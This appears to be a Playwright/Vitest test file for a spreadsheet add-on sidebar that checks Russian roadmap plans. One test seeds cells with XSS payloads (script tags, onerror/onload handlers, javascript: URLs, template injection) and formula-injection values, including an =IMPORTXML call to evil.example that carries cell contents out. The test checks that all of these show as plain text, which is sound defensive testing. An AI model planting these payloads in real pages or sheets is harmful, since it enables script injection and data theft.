/** What stands in cells may be hostile, endless, or there may be ten thousand rows of it: the sidebar shows texts, and stays usable. */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { at, type FakeBook, newBook, sheetNamed, snapshotOf } from '../../fakes/book/book.js';
import { expectSame } from '../../fakes/book/expect-same.js';
import { axeViolations, hasChromium } from '../../panel/testing/browser.js';
import { openAddOn } from '../testing/open.js';
import {
  alerted,
  checkAll,
  idle,
  isWide,
  press,
  SOON,
  shownFindings,
  showTab,
  sidebarsInBrowser,
} from '../testing/sidebar.js';

const SHEET = 'План';
const HEADINGS = [
  '№ п/п',
  'Мероприятие',
  'Срок реализации',
  'Исполнители',
  'Показатель реализации',
  'Отметка об исполнении',
];
const TABS = ['Замечания', 'Показатели', 'Настройки', 'Ещё'];

type Measure = readonly [activity: string, deadline: string, executors: string, indicator: string, status: string];

/** A roadmap of 2022 with these measures from row 3 down. */
function planOf(measures: readonly Measure[]): FakeBook {
  const book = newBook(SHEET);
  const sheet = book.active;
  sheet.rows = measures.length + 10;
  at(sheet, 'A1').value = 'План-график (дорожная карта) мероприятий на 2022 год';
  const rows = [HEADINGS, ...measures.map((texts, index) => [String(index + 1), ...texts])];
  for (const [row, texts] of rows.entries()) {
    for (const [column, text] of texts.entries()) {
      if (text !== '') at(sheet, `${'ABCDEF'.charAt(column)}${row + 2}`).value = text;
    }
  }
  return book;
}

/** Code in the eyes of a page or of a table. */
const HOSTILE: readonly Measure[] = [
  ['<img src=x onerror="window.hacked = 1">', '15–25 февраля', '<script>window.hacked = 1</script>', '', ''],
  [
    '=IMPORTXML("https://evil.example/"&A1;"//a")',
    'до 15 марта',
    '=HYPERLINK("https://evil.example";"куратор")',
    '',
    '',
  ],
  ["'=1+1", 'весь период', '+7 (999) 000-00-00', "'=1+1", 'исполнено'],
  ['Длинное мероприятие '.repeat(2500), '31.02.2022', 'ОченьДлинноеСловоБезПробелов'.repeat(100), '', ''],
  ['@SUM(A1)', '"><svg onload="window.hacked = 1">', '-куратор', '<b>100 %</b>', '<i>да</i>'],
  ['{{constructor.constructor("window.hacked = 1")()}}', 'javascript:window.hacked=1', '__proto__', 'constructor', ''],
];

/** What people have typed, to the letter; the checks may add notes and colours only. */
const texts = (book: FakeBook) =>
  [...sheetNamed(book, SHEET).cells]
    .filter(([, { value, formula }]) => value !== null || formula !== '')
    .map(([key, { value, formula, format }]) => [key, value, formula, format]);

const isHacked = (page: Page) => page.evaluate('window.hacked');

describe.skipIf(!hasChromium)('the built sidebar', () => {
  const open = sidebarsInBrowser();

  it('shows hostile and endless texts as texts, and writes none of them as code', async () => {
    const book = planOf(HOSTILE);
    const before = snapshotOf(book);
    const typed = texts(book);
    const addOn = await openAddOn(book);
    const { page, checkView } = await open(addOn);
    await checkAll(page);
    expect(checkView().findings.length).toBeGreaterThan(HOSTILE.length);
    expect(texts(book)).toEqual(typed);

    for (const name of await shownFindings(page)) expect(name).not.toBe('');
    const buttons = page.getByRole('tabpanel').getByRole('button', { name: /^(?:Ошибка|Предупреждение|Совет): / });
    // found once: the names of all are long, and a button that is pressed stays the same one
    const found = await buttons.elementHandles();
    expect(found.length).toBeGreaterThan(HOSTILE.length);
    for (const button of found) {
      await button.click();
      expect(await isWide(page)).toBe(false);
    }
    await expect.poll(() => page.getByText('<img src=x onerror="window.hacked = 1">').first().isVisible()).toBe(true);
    await expect
      .poll(() => page.locator('main img, main script, main b, main a, main [onload], main [onerror]').count())
      .toBe(0);
    expect(await axeViolations(page)).toEqual([]);
    await showTab(page, 'Показатели');
    expect(await axeViolations(page)).toEqual([]);
    await press(page, 'Записать лист показателей');
    await showTab(page, 'Ещё');
    await press(page, 'Свод по листам');
    await idle(page);
    for (const tab of TABS) {
      await showTab(page, tab);
      expect([tab, await isWide(page)]).toEqual([tab, false]);
    }
    expect(await alerted(page)).toBe('');
    expect(await isHacked(page)).toBe(0);
    // our sheets quote the texts: none of them has become a formula there
    const own = book.sheets.filter(({ name }) => name !== SHEET);
    expect(own.length).toBeGreaterThanOrEqual(3);
    const formulas = own.flatMap(({ cells }) => [...cells.values()].map(({ formula }) => formula));
    expect(formulas.filter((formula) => /IMPORTXML|HYPERLINK\("https|1\+1|SUM\(A1\)/.test(formula))).toEqual([]);
    expect(texts(book)).toEqual(typed);
    await press(page, 'Снять отметки…');
    await press(page, 'Да, снять');
    await idle(page);
    expectSame(snapshotOf(book), before);
  });

  it('says on an empty sheet that there is no table', async () => {
    const { page } = await open(await openAddOn(newBook()));
    await checkAll(page);
    await expect.poll(() => page.getByRole('heading', { name: 'Лист в целом' }).isVisible()).toBe(true);
    expect((await shownFindings(page)).join()).toContain('Таблица плана не найдена');
    expect(await axeViolations(page)).toEqual([]);
    await showTab(page, 'Показатели');
    await expect.poll(() => page.getByText('Дорожная карта не найдена').isVisible()).toBe(true);
  });

  it('stays usable on ten thousand rows', async () => {
    const count = 10_000;
    const deadlines = ['15–25 февраля', 'весь период', 'до 15 марта 2022 г.', '31.12.2022'];
    const book = planOf(
      Array.from({ length: count }, (_, index) => [
        `Семинар ${index + 1} для учителей школ, ${index % 7 === 0 ? ' ' : ''}обмен опытом`,
        deadlines[index % deadlines.length] ?? '',
        index % 11 === 0 ? '' : `школа № ${index % 40}`,
        `не менее ${(index % 90) + 10} %`,
        index % 3 === 0 ? 'исполнено' : '',
      ]),
    );
    const { page, checkView } = await open(await openAddOn(book));
    page.setDefaultTimeout(60_000);
    await checkAll(page);
    const { findings } = checkView();
    expect(findings.length).toBeGreaterThan(5000);
    await expect.poll(() => page.getByRole('heading', { name: `${findings.length} замечани` }).isVisible()).toBe(true);
    // only a page of the list is drawn
    const drawn = (await shownFindings(page)).length;
    expect(drawn).toBeLessThan(300);
    await page
      .getByRole('button', { name: /^Показать ещё/ })
      .last()
      .click();
    expect((await shownFindings(page)).length).toBeGreaterThan(drawn);
    await page.getByRole('searchbox', { name: 'Найти в замечаниях' }).fill('Семинар 9999 ');
    await press(page, /^\S+: № 9999/);
    await expect.poll(() => book.selection.top, SOON).toBe(count);
    await press(page, 'Сбросить');
    await page.getByText('По видам').click();
    await press(page, /^В сроке не указан год/);
    await press(page, /^Исправить все \(\d+\)…$/);
    await expect.poll(() => page.getByText(`${count / 4} ячеек изменятся`).isVisible()).toBe(true);
    await press(page, 'Отмена');
    expect(await isWide(page)).toBe(false);
  }, 120_000);
});
